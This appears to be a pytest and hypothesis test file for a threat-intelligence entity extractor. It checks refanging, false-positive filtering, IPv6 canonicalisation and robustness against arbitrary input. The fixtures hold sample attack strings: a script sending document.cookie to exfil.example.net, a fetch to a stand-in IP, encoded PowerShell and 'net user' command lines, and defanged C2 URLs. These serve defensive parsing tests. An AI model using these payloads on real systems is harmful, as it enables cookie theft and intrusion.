"""Entity extraction: what it finds, what it keeps out, and that it never raises."""

from __future__ import annotations

import ipaddress
import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from huntress_dagster.parsing import ENTITY_COLUMNS, extract_entities
from huntress_dagster.parsing.entities import _dot_tokens
from huntress_dagster.parsing.indicator_values import canonical_ipv6, tlds


def entities(text: str) -> dict[str, list[str]]:
    found = extract_entities(text)
    assert set(found) == set(ENTITY_COLUMNS)
    return found


def test_defanged_indicators_are_refanged() -> None:
    found = entities(
        "C2 at hxxps[:]//evil-cdn[.]top/a.bin, hXXp://93.184.216[.]34/x and mail jdoe[@]acme[.]com "
        "or bad[dot]example[.]org via hxxp[://]relay.example.net/p"
    )
    assert found["urls"] == [
        "http://93.184.216.34/x",
        "http://relay.example.net/p",
        "https://evil-cdn.top/a.bin",
    ]
    assert found["ipv4"] == ["93.184.216.34"]
    assert found["emails"] == ["jdoe@acme.com"]
    assert set(found["domains"]) == {"evil-cdn.top", "bad.example.org", "relay.example.net"}


def test_false_positives_stay_out() -> None:
    found = entities(
        "Windows 10.0.19041.1, Chrome 124.0.6367.91, agent v1.2.3.4, version 0.13.42. The user opened "
        "report.docx, evil.exe, payload.zip and run.sh; WScript.Network and System.Management.dll were "
        "loaded. At 12:04:33 the NIC 7c:a7:b0:16:2f:78 was up. Octets 256.1.1.1 and 010.1.1.1."
    )
    assert found["ipv4"] == []
    assert found["ipv6"] == []
    assert found["domains"] == []
    assert found["processes"] == ["evil.exe"]


def test_ip_addresses() -> None:
    found = entities(
        "src=203.0.113.7:443 dst [2001:db8::1]:8080, full 2001:0db8:0000:0000:0000:ff00:0042:8329, "
        "loopback ::1, mapped ::ffff:192.0.2.128 and 198.51.100.5/24."
    )
    assert found["ipv4"] == ["192.0.2.128", "198.51.100.5", "203.0.113.7"]  # the mapped one too
    assert found["ipv6"] == ["2001:db8::1", "2001:db8::ff00:42:8329", "::1", "::ffff:c000:280"]


def test_hashes_by_length_only_as_whole_tokens() -> None:
    md5, sha1, sha256 = (
        "d41d8cd98f00b204e9800998ecf8427e",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3" * 32,
    )
    found = entities(
        f"MD5 {md5.upper()} SHA1={sha1} <td>{sha256}</td> not 0x{md5} nor {md5}aa nor {'a' * 48}"
    )
    assert found["md5"] == [md5]
    assert found["sha1"] == [sha1]
    assert found["sha256"] == [sha256]


def test_paths_processes_and_users() -> None:
    found = entities(
        "<td>C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe</td> spawned "
        '"C:\\Users\\John Smith\\AppData\\Local\\Temp\\a b\\x.ps1" then C:\\Windows\\Temp\\evil.exe was run by '
        "CORP\\jdoe and NT AUTHORITY\\SYSTEM; share \\\\FILESRV\\Public\\drop.exe, /usr/bin/curl and "
        '/tmp/.x/loader.sh; escaped "C:\\\\ProgramData\\\\y.dll"; rundll32.exe and cmd.exe /c whoami'
    )
    assert found["files"] == [
        "/tmp/.x/loader.sh",
        "/usr/bin/curl",
        "C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe",
        "C:\\ProgramData\\y.dll",
        "C:\\Users\\John Smith\\AppData\\Local\\Temp\\a b\\x.ps1",
        "C:\\Windows\\Temp\\evil.exe",
        "\\\\FILESRV\\Public\\drop.exe",
    ]
    assert found["processes"] == [
        "/usr/bin/curl",
        "C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe",
        "C:\\Windows\\Temp\\evil.exe",
        "\\\\FILESRV\\Public\\drop.exe",
        "cmd.exe",
        "rundll32.exe",
    ]
    assert found["users"] == ["CORP\\jdoe", "NT AUTHORITY\\SYSTEM"]


def test_registry_tasks_services_and_command_lines() -> None:
    found = entities(
        "<tr><th>Command Line</th><td>powershell.exe -enc SQBFAFgA</td></tr>\n"
        'CommandLine="cmd.exe /c net user" User="x"\n'
        "Scheduled Task: \\Microsoft\\Windows\\Update Checker\n"
        "TaskName=\\GoogleUpdateTaskMachineQA\n"
        "<p>Service Name: MeshAgent</p> service_name=AteraSvc\n"
        "key HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell and "
        "HKEY_CURRENT_USER\\Software\\Run\\upd. The task was removed and the service stopped."
    )
    assert found["command_lines"] == ["cmd.exe /c net user", "powershell.exe -enc SQBFAFgA"]
    assert found["scheduled_tasks"] == ["\\GoogleUpdateTaskMachineQA", "\\Microsoft\\Windows\\Update Checker"]
    assert found["services"] == ["AteraSvc", "MeshAgent"]
    assert found["registry_keys"] == [
        "HKEY_CURRENT_USER\\Software\\Run\\upd",
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell",
    ]
    assert found["users"] == []


def test_script_text_is_inert_but_searched() -> None:
    found = entities(
        "<script>new Image().src='https://exfil.example.net/p?c='+document.cookie</script>"
        "&lt;script&gt;fetch(&quot;http://198.51.100.9/x&quot;)&lt;/script&gt;"
    )
    assert found["urls"] == ["http://198.51.100.9/x", "https://exfil.example.net/p?c="]


def test_tld_list_is_the_real_one() -> None:
    names = tlds()
    assert {"com", "top", "io", "de", "zip", "xn--p1ai"} <= names
    assert not {"exe", "docx", "dll", "ps1"} & names


def _ipaddress_text(candidate: str) -> str | None:
    try:
        return str(ipaddress.IPv6Address(candidate))
    except ValueError:
        return None


# 16 bytes leaning to zero groups (compression), written in the forms reports use, with an IPv4 tail
# sometimes.
_SPARSE_GROUPS = st.lists(
    st.sampled_from([0, 0, 1, 0xFF, 0xFFFF]) | st.integers(0, 0xFFFF), min_size=8, max_size=8
)


@given(_SPARSE_GROUPS, st.sampled_from(["exploded", "compressed", "upper", "ipv4 tail"]))
def test_ipv6_text_is_what_ipaddress_writes(groups: list[int], form: str) -> None:
    address = ipaddress.IPv6Address(b"".join(group.to_bytes(2, "big") for group in groups))
    text = {
        "exploded": address.exploded,
        "compressed": address.compressed,
        "upper": address.compressed.upper(),
        "ipv4 tail": ":".join(address.exploded.split(":")[:6]) + f":{groups[6] >> 8}.{groups[6] & 255}.1.2",
    }[form]
    assert canonical_ipv6(text.encode()) == _ipaddress_text(text)


@given(st.text(alphabet="0123456789abcdefABCDEF:.", max_size=45))
def test_ipv6_candidates_are_judged_as_ipaddress_judges_them(text: str) -> None:
    assert canonical_ipv6(text.encode()) == _ipaddress_text(text)


_REFERENCE_DOT_TOKEN = re.compile(rb"(?<![\w\x80-\xff@+\-])[\w\x80-\xff@+\-]+(?:\.[\w\x80-\xff@+\-]+)+")


@given(st.text(alphabet="ab1Z_-@+.. \t\n<>\\:é«", max_size=80))
def test_dot_tokens_match_the_plain_pattern(text: str) -> None:
    data = text.encode()
    assert _dot_tokens(data, data[::-1]) == set(_REFERENCE_DOT_TOKEN.findall(data))


_INDICATOR_PIECES = st.sampled_from(
    [
        ".",
        "..",
        ":",
        "::",
        "\\",
        "\\\\",
        "/",
        "//",
        "@",
        "[.]",
        "[:]//",
        "hxxp",
        "http://",
        "C:",
        "HKLM\\",
        "&amp;",
        "&#",
        ";",
        "<",
        ">",
        '<a href="',
        '"',
        "'",
        " ",
        "\n",
        "x",
        "Z",
        "é",
        "0",
        "255",
        "ffff",
        "a" * 32,
        "Command Line:",
        "Task Name=",
        "Service:",
        "NT AUTHORITY\\",
        "ACME\\",
        ".com",
        ".exe",
        "\ud800",
        "\x00",
    ]
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_INDICATOR_PIECES | st.text(max_size=5), max_size=60).map("".join))
def test_never_raises_on_indicator_shaped_text(text: str) -> None:
    found = entities(text)
    assert all(isinstance(value, str) for values in found.values() for value in values)


@settings(max_examples=200)
@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=300))
def test_never_raises_on_any_text(text: str) -> None:
    entities(text)


_REFANG_PIECES = st.sampled_from(["[dot]", "&nbsp;", "\xa0", "&#91;.]"])


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_INDICATOR_PIECES | _REFANG_PIECES, max_size=40).map("".join))
def test_pre_encoded_bytes_give_the_same_entities(text: str) -> None:
    # parse_body hands over the body it already encoded to measure it; refanging then runs on the bytes.
    assert extract_entities(text, text.encode("utf-8", "surrogatepass")) == extract_entities(text)
